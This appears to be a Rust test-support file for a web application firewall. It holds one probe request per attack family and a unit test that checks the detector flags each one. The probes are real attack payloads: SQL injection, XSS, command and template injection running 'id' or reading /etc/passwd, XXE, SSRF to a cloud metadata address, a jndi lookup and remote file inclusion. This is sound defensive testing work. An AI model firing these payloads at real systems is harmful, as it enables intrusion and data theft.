//! The probes: for each family one request that is an attack by its shape and does nothing anywhere.
//!
//! Addresses are those of documentation (RFC 5737), names are `.invalid`.

use portcullis_waf::semantic::Class;

/// What a probe is made of.
#[derive(Debug, Clone, Copy, Default)]
pub(crate) struct Attack {
    /// Another method than GET.
    pub(crate) method: Option<&'static str>,
    /// Value of the one parameter, percent-encoded.
    pub(crate) query: &'static str,
    /// Lines of the head, each with its end.
    pub(crate) fields: &'static str,
    /// Type and content of a body.
    pub(crate) body: Option<(&'static str, &'static str)>,
    /// The page that the platform would have sent.
    pub(crate) answer: Option<&'static str>,
    /// Found, but by itself not enough to be refused at every sensitivity.
    pub(crate) weak: bool,
}

const fn query(query: &'static str) -> Attack {
    Attack { method: None, query, fields: "", body: None, answer: None, weak: false }
}

/// One for a family of the gate's own detection.
pub(crate) const fn of_class(class: Class) -> Attack {
    match class {
        Class::Sql => query("1%27%20union%20select%20password%20from%20users--%20-"),
        Class::Script => query("%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
        Class::Command => query(";cat%20/etc/passwd"),
        Class::Path => query("../../../../../../etc/passwd"),
        Class::Template => query("%7B%7Bconfig.__class__.__init__.__globals__[%27os%27].popen(%27id%27).read()%7D%7D"),
        Class::Code => query("%3C?php%20system(%27id%27);?%3E"),
        Class::Ldap => query("*)(uid=*))(%7C(uid=*"),
        Class::Xpath => query("%27%20or%20count(/*)=1%20or%20%27a%27=%27b"),
        Class::Nosql => query("%7B%22$where%22:%22sleep(1)%22%7D"),
        Class::Xxe => Attack {
            body: Some((
                "application/xml",
                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
            )),
            ..query("1")
        },
        Class::Ssrf => query("http://169.254.169.254/latest/meta-data/"),
        Class::Serialised => query("O:8:%22stdClass%22:1:%7Bs:1:%22a%22;s:1:%22b%22;%7D"),
        Class::Lookup => query("$%7Bjndi:ldap://probe.invalid/a%7D"),
        Class::Splitting => query("a%0d%0aSet-Cookie:%20a=b%0d%0a%0d%0a"),
        Class::Encoding => Attack { weak: true, ..query("%25252525252525252525253Cscript%25252525252525252525253E") },
        Class::Patch => Attack { fields: "User-Agent: ${jndi:ldap://probe.invalid/a}\r\n", ..query("1") },
        Class::Protocol => {
            Attack { body: Some(("application/x-www-form-urlencoded; charset=ibm037", "a=b")), ..query("1") }
        }
    }
}

/// One for a family of rules, by the tags that the Core Rule Set has.
pub(crate) fn of_tag(tag: &str) -> Option<Attack> {
    Some(match tag {
        "attack-sqli" => query("1%27%20union%20select%20password%20from%20users--%20-"),
        "attack-xss" => query("%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
        "attack-rce" => query(";cat%20/etc/passwd"),
        "attack-lfi" => query("../../../../../../etc/passwd"),
        "attack-rfi" => query("http://192.0.2.1/shell.txt?"),
        "attack-injection-php" => query("%3C?php%20system(%27id%27);?%3E"),
        "attack-injection-generic" => query("process.mainModule.require(%27child_process%27)"),
        "attack-injection-java" => Attack { fields: "X-File-Name: probe.jsp\r\n", ..query("1") },
        "attack-ssrf" => query("http://169.254.169.254/latest/meta-data/"),
        "attack-ssti" => query("%7B%7B7*7%7D%7D"),
        "attack-fixation" => query("%3Cmeta%20http-equiv=%22Set-Cookie%22%20content=%22a=b%22%3E"),
        "attack-protocol" => query("a%0d%0aSet-Cookie:%20a=b"),
        "attack-generic" => Attack { method: Some("PROPFIND"), ..query("1") },
        "attack-reputation-scanner" => Attack { fields: "User-Agent: sqlmap/1.8\r\n", ..query("1") },
        "attack-multipart-header" => form(
            "--probe\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\na\r\n--probe--\r\n",
        ),
        "attack-deprecated-header" => form(
            "--probe\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Transfer-Encoding: base64\r\n\r\nYQ==\r\n--probe--\r\n",
        ),
        "attack-disclosure" => Attack {
            answer: Some(
                "<p>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version</p>",
            ),
            ..query("1")
        },
        _ => return None,
    })
}

/// A form.
const fn form(body: &'static str) -> Attack {
    Attack { body: Some(("multipart/form-data; boundary=probe", body)), ..query("1") }
}

#[cfg(test)]
mod tests {
    use portcullis_waf::body::{Bounds, Fields};
    use portcullis_waf::semantic::{Detector, Findings, Settings};

    use super::*;

    #[test]
    fn each_family_fires_alone() {
        let mut silent = Vec::new();
        for class in Class::ALL {
            let attack = of_class(*class);
            let allowed = Class::ALL.iter().copied().filter(|other| other != class).collect();
            let detector = Detector::new(Settings { allowed, ..Settings::default() });
            let mut findings = Findings::new();
            let target = format!("/?portcullis-probe={}", attack.query);
            detector.request_line(b"GET", target.as_bytes(), &mut findings);
            for (name, value) in attack.fields.lines().filter_map(|line| line.split_once(": ")) {
                detector.header(name.as_bytes(), value.as_bytes(), &mut findings);
            }
            if let Some((kind, body)) = attack.body {
                let (bounds, mut fields) = (Bounds::default(), Fields::new());
                detector.header(b"content-type", kind.as_bytes(), &mut findings);
                detector.body(kind.as_bytes(), false, body.as_bytes(), &bounds, &mut fields, &mut findings);
            }
            let found = findings.list().iter().any(|finding| finding.class == *class);
            if !found || !(attack.weak || detector.blocks(&findings)) {
                silent.push(format!("{}: {}: {:?}", class.as_str(), findings.score(), findings.list()));
            }
        }
        assert!(silent.is_empty(), "{silent:#?}");
    }
}
